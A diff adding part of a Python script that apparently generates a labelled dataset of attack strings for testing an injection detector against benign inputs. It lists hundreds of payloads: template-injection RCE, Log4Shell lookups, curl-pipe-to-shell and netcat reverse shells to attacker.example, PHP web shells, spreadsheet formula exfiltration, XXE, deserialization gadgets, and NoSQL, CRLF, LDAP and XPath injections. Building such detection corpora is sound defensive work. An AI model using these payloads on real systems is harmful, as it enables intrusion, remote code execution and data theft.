+    ("code-ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
+    ("code-spel", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
+    ("code-ssti-thymeleaf", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('whoami').getInputStream())}"),
+    ("code-ssti-freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
+    ("code-ssti-velocity", "#set($r=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$r"),
+    ("code-ssti-nunjucks", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
+    ("code-ssti-erb", "<%= `id` %>"),
+    ("code-ssti-erb", "<%= File.read('/etc/passwd') %>"),
+    ("code-ssti-pug", "#{global.process.mainModule.require('child_process').execSync('cat /etc/passwd')}"),
+    ("code-ssti-smarty", "{php}echo `id`;{/php}"),
+    ("code-ssti-smarty", "{system('cat /etc/passwd')}"),
+    ("code-ssti-razor", "@(System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\"))"),
+    ("code-ssti-dot", "{{= global.process.mainModule.require('child_process').execSync('id') }}"),
+    ("code-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
+    ("code-el", "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
+    ("code-ssti-twig", "{{ ['id']|filter('system') }}"),
+    ("code-ssti-twig", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
+    ("code-ssti-mako", "<% import os; os.system('id') %>"),
+    ("code-ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
+    ("code-el", "#{''.class.forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
+    ("code-ognl", "%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"id\"})).start()}"),
+    ("code-log4shell", "${jndi:ldap://attacker.example:1389/Exploit}"),
+    ("code-log4shell", "Tornado fan noisy ${jndi:rmi://203.0.113.44:1099/o}"),
+    ("code-log4shell", "${${lower:j}ndi:${lower:l}dap://k07.attacker.example/a}"),
+    ("code-log4shell", "${${::-j}${::-n}${::-d}${::-i}:dns://${env:USER}.oob.attacker.example}"),
+    ("code-log4shell", "${jndi:ldaps://198.51.100.12/${sys:java.version}}"),
+    ("code-log4shell", "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://attacker.example/x}"),
+    ("code-log4shell", "%24%7Bjndi%3Aldap%3A%2F%2Fattacker.example%2Fq%7D"),
+    ("code-log4shell", "${jnd${upper:ı}:ldap://attacker.example/u}"),
+    ("code-log4shell", "kiosk K-07 heartbeat ${jndi:${lower:d}ns://${hostName}.attacker.example}"),
+    ("code-python-eval", "__import__('os').system('curl attacker.example/p|sh')"),
+    ("code-node-eval", "1+1;require('child_process').exec('nc 203.0.113.8 4444 -e /bin/sh')"),
+    ("code-node-eval", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
+    ("code-python-eval", "eval(compile('import subprocess;subprocess.call([\"sh\",\"-c\",\"id\"])','x','exec'))"),
+    ("code-php-eval", "';system('id');//"),
+    ("code-php-eval", "${@print(system('id'))}"),
+    ("code-php-upload", "<?php system($_GET['c']); ?>"),
+    ("code-python-eval", "exec('import os;os.system(\"id\")')"),
+    ("code-python-eval", "__builtins__.__dict__['__imp'+'ort__']('os').popen('id').read()"),
+    ("code-python-eval", "getattr(__import__('subprocess'),'check_output')(['id'])"),
+    ("code-node-eval", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"),
+    ("code-groovy", "'curl attacker.example/g'.execute().text"),
+    ("code-lua", "fan.set(100) end os.execute('wget -qO- attacker.example/l|sh') if true then x=1"),
+    ("code-prototype-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
+    ("code-prototype-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
+    ("code-prototype-pollution", "__proto__[kiosk_role]=admin"),
+    ("code-prototype-pollution", "{\"__proto__\":{\"shell\":\"node\",\"NODE_OPTIONS\":\"--require /proc/self/environ\"}}"),
+    ("code-prototype-pollution", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
+    ("code-prototype-pollution", "settings[__proto__][debug_overlay]=1"),
+    ("code-prototype-pollution", "{\"a\":{\"__proto__\":{\"sourceURL\":\"\\u000areturn process.mainModule.require('child_process').execSync('id')//\"}}}"),
+    ("code-prototype-pollution", "constructor[prototype][admin]=true"),
+    ("code-csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A2&B2,\"Click for stock sheet\")"),
+    ("code-dde", "=cmd|' /C powershell -w hidden iwr attacker.example/s.ps1|iex'!'A1'"),
+    ("code-dde", "@SUM(2*3)*cmd|' /C mshta http://attacker.example/h.hta'!Z9"),
+    ("code-csv-formula", "+IMPORTXML(CONCAT(\"https://attacker.example/x?\",A1:C20),\"//a\")"),
+    ("code-dde", "-2+3+cmd|' /C explorer \\\\203.0.113.9\\s'!A1"),
+    ("code-csv-formula", "PB-003,\"=WEBSERVICE(\"\"http://attacker.example/leak?\"\"&B3)\",2,Store B"),
+    ("code-dde", "=DDE(\"cmd\";\"/C curl attacker.example/o\";\"_\")"),
+    ("code-csv-formula", "=IMAGE(\"https://attacker.example/pixel.png?\"&A1&\"-\"&B1)"),
+    ("code-xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><report>&x;</report>"),
+    ("code-xxe", "<!DOCTYPE g [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><grant/>"),
+    ("code-xxe", "<?xml version=\"1.0\"?><!DOCTYPE kiosk [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><kiosk><name>&s;</name></kiosk>"),
+    ("code-xxe", "<!DOCTYPE a [<!ENTITY % d SYSTEM \"php://filter/convert.base64-encode/resource=/opt/kiosk/config/secrets.json\"><!ENTITY % e \"<!ENTITY &#x25; x SYSTEM 'http://attacker.example/?%d;'>\">%e;%x;]><a/>"),
+    ("code-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"1\" y=\"9\">&h;</text></svg>"),
+    ("code-xinclude", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>"),
+    ("code-xxe-dos", "<!DOCTYPE l [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]><l>&d;&d;&d;</l>"),
+    ("code-deser-php", "O:8:\"Exhibits\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
+    ("code-deser-php", "a:1:{i:0;O:14:\"KioskLogWriter\":2:{s:4:\"path\";s:28:\"/var/www/html/exhibits/x.php\";s:4:\"data\";s:25:\"<?php system($_GET[0]);?>\";}}"),
+    ("code-deser-pickle", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
+    ("code-deser-yaml", "!!python/object/apply:os.system ['id']"),
+    ("code-deser-yaml", "!!python/object/new:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
+    ("code-deser-yaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
+    ("code-deser-dotnet", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]}}"),
+    ("code-deser-jackson", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/obj\",\"autoCommit\":true}]"),
+    ("code-deser-fastjson", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.61:1099/k\",\"autoCommit\":true}"),
+    ("code-deser-node", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
+    ("code-deser-java", "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZZTaMLT7P4KxAwACSQAEc2l6ZUwACmNvbXBhcmF0b3J0ABZMamF2YS91dGlsL0NvbXBhcmF0b3I7eHAAAAACc3IAK29yZy5hcGFjaGUuY29tbW9ucy5iZWFudXRpbHMuQmVhbkNvbXBhcmF0b3I="),
+    ("code-ssti-handlebars", "{{#with (lookup this \"constructor\") as |c|}}{{c.constructor \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}"),
+    ("code-ssti-jinja", "Dear {{ config.__class__.__init__.__globals__['os'].popen('ls /opt/kiosk/config').read() }},"),
+]
+
+# ---------------------------------------------------------------- nosqli (27 literals)
+NOSQLI = [
+    ("nosqli-operator", "{\"$ne\": null}"),
+    ("nosqli-operator", "{\"login\": \"gareth\", \"pin\": {\"$ne\": \"\"}}"),
+    ("nosqli-operator", "{\"$gt\": \"\"}"),
+    ("nosqli-qs-operator", "pin[$ne]=1"),
+    ("nosqli-qs-operator", "login[$regex]=^adm&pin[$ne]=x"),
+    ("nosqli-where", "{\"$where\": \"sleep(5000) || true\"}"),
+    ("nosqli-where", "{\"$where\": \"this.pin.length == 4 && this.pin[0] == '1'\"}"),
+    ("nosqli-js-injection", "'; return true; var x='"),
+    ("nosqli-js-injection", "tornado' || '1'=='1"),
+    ("nosqli-regex", "{\"owner\": {\"$regex\": \"^a\"}, \"pin\": {\"$exists\": true}}"),
+    ("nosqli-operator", "{\"$or\": [{\"role\": \"admin\"}, {\"a\": {\"$ne\": 1}}]}"),
+    ("nosqli-operator", "{\"$expr\": {\"$eq\": [1, 1]}}"),
+    ("nosqli-qs-operator", "role[$in][]=admin&role[$in][]=tech"),
+    ("nosqli-aggregation", "{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}"),
+    ("nosqli-regex", "{\"pin\": {\"$regex\": \"^4\", \"$options\": \"s\"}}"),
+    ("nosqli-js-injection", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(6000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
+    ("nosqli-operator", "{\"login\": {\"$gte\": \"\"}, \"pin\": {\"$gte\": \"\"}}"),
+    ("nosqli-qs-operator", "pin[$gt]="),
+    ("nosqli-where", "{\"$where\": \"function(){var d=new Date();while(new Date()-d<5000){};return true}\"}"),
+    ("nosqli-js-injection", "\"; while(true){}; var a=\""),
+    ("nosqli-mango", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
+    ("nosqli-update-operator", "{\"$set\": {\"role\": \"admin\"}}"),
+    ("nosqli-operator", "{\"username\": {\"$in\": [\"admin\", \"root\", \"gareth\"]}, \"password\": {\"$not\": {\"$eq\": \"x\"}}}"),
+    ("nosqli-qs-operator", "login=admin&pin[%24ne]=0"),
+    ("nosqli-where", "{\"exhibit\": \"tornado\", \"$where\": \"this.budget > 0 && sleep(3000)\"}"),
+    ("nosqli-regex-dos", "{\"name\": {\"$regex\": \"^(a+)+$\"}}"),
+    ("nosqli-regex", "{\"email\": {\"$regex\": \".*@exhibitworks\\\\.example\"}, \"reset_token\": {\"$ne\": null}}"),
+]
+
+# ---------------------------------------------------------------- crlf (30 literals)
+CRLF = [
+    ("crlf-log-forging", "K-07 rebooted\nINFO 2024-05-14T09:00:01Z user=admin action=grant_role role=superuser"),
+    ("crlf-log-forging", "Tornado fixed\r\n[2024-05-14 10:42:00] AUDIT login ok user=gareth ip=10.0.0.5"),
+    ("crlf-log-forging", "pump%0d%0a2024-05-14 11:00:00 INFO ticket #4471 closed by admin"),
+    ("crlf-header-injection", "en%0d%0aSet-Cookie:%20session=attacker-fixed-session; Path=/"),
+    ("crlf-header-injection", "/thanks\r\nLocation: https://attacker.example/phish"),
+    ("crlf-response-splitting", "fr%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A<script>alert(1)</script>"),
+    ("crlf-header-injection", "K-07\r\nX-Forwarded-For: 127.0.0.1"),
+    ("crlf-unicode", "%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
+    ("crlf-mail-header", "teacher@school.sch.example\r\nBcc: list1@attacker.example, list2@attacker.example"),
+    ("crlf-mail-header", "Booking confirmation\nCc: victims@attacker.example\nX-Mailer: x"),
+    ("crlf-mail-header", "Rosa <rosa@exhibitworks.example>%0ABcc:%20spam@attacker.example"),
+    ("crlf-mail-body", "Your photo\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/win\">Claim your prize</a>"),
+    ("crlf-csv-row", "PB-003,Plasma ball,2,Store B\r\nEVIL-1,\"=HYPERLINK(\"\"https://attacker.example\"\")\",1,x"),
+    ("crlf-csv-row", "FRC-12;spare balls;10;drawer 3\nFAKE-99;Refund to IBAN GB00FAKE0000000;1;office"),
+    ("crlf-log-forging", "great visit\n127.0.0.1 - - [14/May/2024:10:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
+    ("crlf-log-forging", "ok\u2028ERROR payment gateway key rotated to sk_test_FAKE123"),
+    ("crlf-log-forging", "K-07%0aWARN kiosk K-07 tamper alarm cleared by technician id=0"),
+    ("crlf-response-splitting", "x\r\n\r\nHTTP/1.1 302 Found\r\nLocation: //attacker.example/"),
+    ("crlf-header-injection", "%0d%0aSet-Cookie:csrf=fixed;Domain=.exhibitworks.example"),
+    ("crlf-header-injection", "en\rRefresh: 0; url=https://attacker.example/"),
+    ("crlf-mail-header", "Newsletter%0D%0AReply-To:%20support@attacker.example"),
+    ("crlf-mail-header", "subscriber@example.org%0ATo:%20all-members@exhibitworks.example"),
+    ("crlf-smtp-smuggling", "grant report\r\n.\r\nMAIL FROM:<ceo@exhibitworks.example>\r\nRCPT TO:<finance@exhibitworks.example>\r\nDATA\r\nSubject: Urgent wire\r\n"),
+    ("crlf-double-urlencode", "%250d%250aSet-Cookie:%2520x=1"),
+    ("crlf-response-splitting", "/booking%0d%0aX-XSS-Protection:%200%0d%0a%0d%0a<svg onload=alert(1)>"),
+    ("crlf-unicode-escape", "Sam\\u000d\\u000aLocation: http://attacker.example"),
+    ("crlf-log-forging", "note\n[INFO] rota updated by manager: Gareth -> terminated"),
+    ("crlf-log-forging", "K-07\n{\"level\":\"info\",\"user\":\"admin\",\"msg\":\"password reset approved\"}"),
+    ("crlf-csv-row", "3\r\nKL-999,Stock adjustment,-500,Store A"),
+    ("crlf-header-injection", "Mei%0D%0AContent-Disposition:%20attachment;%20filename=rota.html"),
+]
+
+# ---------------------------------------------------------------- ldap-xpath (20 literals)
+LDAP_XPATH = [
+    ("ldap-filter", "*)(uid=*))(|(uid=*"),
+    ("ldap-filter", "gareth)(|(memberOf=cn=admins,ou=groups,dc=exhibitworks,dc=example)"),
+    ("ldap-filter", "admin)(&)"),
+    ("ldap-filter", "tech*)(objectClass=*"),
+    ("ldap-filter", "*))%00"),
+    ("ldap-filter", "rosa*)(|(mail=*@*"),
+    ("ldap-filter", "x)(|(description=*pin*)"),
+    ("ldap-filter", "Priya)(department=*))(&(uid=x"),
+    ("ldap-filter", "*)(&(objectClass=user)(pwdLastSet=0)"),
+    ("ldap-filter", "staff)(userPassword=*"),
+    ("xpath-injection", "K-07' or name()='kiosk' or 'a'='b"),
+    ("xpath-injection", "x' or count(/kiosks/kiosk)>0 or 'x'='y"),
+    ("xpath-injection", "tornado'] | //staff/*[contains(.,'pin')] | //x['"),
+    ("xpath-injection", "' or string-length(//user[1]/password)=8 or ''='"),
+    ("xpath-injection", "4471] | /* | //ticket[@id=4471"),
+    ("xpath-injection", "gareth' or substring(//user[position()=1]/pin,1,1)='4' and 'a'='a"),
+    ("xpath-injection", "'] | //kiosk/admin_pin/text() | a['"),
+    ("xpath-injection", "x' or doc('http://attacker.example/x.xml') or '1'='1"),
+    ("xpath-injection", "x' and 1=0] | //grant[amount>10000] | //z[.='"),
+    ("xpath-injection", "') or ('1'='1') or ('"),
+]
+
+
+def urlencode_all(s):
+    return "".join("%%%02X" % b for b in s.encode("utf-8"))
+
+
+def build():
+    rng = random.Random(SEED)
+    out = []  # (category, class, value, literal?)
+    for cls, v in SQLI:
+        out.append(("sqli", cls, v, True))
+    for cls, v in SQLI_URLENCODE_POOL:
+        out.append(("sqli", cls + "+urlencode", urlencode_all(v), False))
+    for cls, v in XSS:
+        out.append(("xss", cls, v, True))
+    for cls, v in CMDI:
+        out.append(("cmdi", cls, v, True))
+    combos = [(p, c, s) for p in CMDI_PREFIXES for (c, s) in CMDI_PAYLOADS]
+    for p, c, s in rng.sample(combos, CMDI_POOL_COUNT):
+        out.append(("cmdi", c, p + s, False))
+    for cls, v in TRAVERSAL:
+        out.append(("traversal", cls, v, True))
+    for cls, v in TRAVERSAL_URLENCODE_POOL:
+        out.append(("traversal", cls + "+urlencode", urlencode_all(v), False))
+    for cls, v in SSRF:
+        out.append(("ssrf", cls, v, True))
+    for cls, v in CODE:
+        out.append(("code", cls, v, True))
+    for cls, v in NOSQLI:
+        out.append(("nosqli", cls, v, True))
+    for cls, v in CRLF:
+        out.append(("crlf", cls, v, True))
+    for cls, v in LDAP_XPATH:
+        out.append(("ldap-xpath", cls, v, True))
+    return out
+
+
+def check(rows):
+    benign = set()
+    bpath = os.path.join(HERE, "benign.jsonl")
+    if os.path.exists(bpath):
+        with open(bpath, encoding="utf-8") as fh:
+            benign = {json.loads(line)["value"] for line in fh}
+    seen = set()
+    for cat, cls, v, _lit in rows:
+        assert 1 <= len(v) <= 2000, v
+        assert v not in seen, ("duplicate", v)
+        assert v not in benign, ("equals benign", v)
+        for ch in v:
+            assert ord(ch) >= 32 or ch in "\n\r\t", ("control char", v)
+            assert ch != "\x7f", v
+        seen.add(v)
+    assert 480 <= len(rows) <= 500, len(rows)
+    lits = sum(1 for r in rows if r[3])
+    assert lits >= 0.9 * len(rows), lits
+
+
+def main():
+    rows = build()
+    check(rows)
+    path = os.path.join(HERE, "attacks.jsonl")
+    with open(path, "w", encoding="utf-8", newline="\n") as fh:
+        for i, (cat, cls, v, _lit) in enumerate(rows, 1):
+            obj = {"id": "haiw-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}
+            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")
+
+
+if __name__ == "__main__":
+    main()
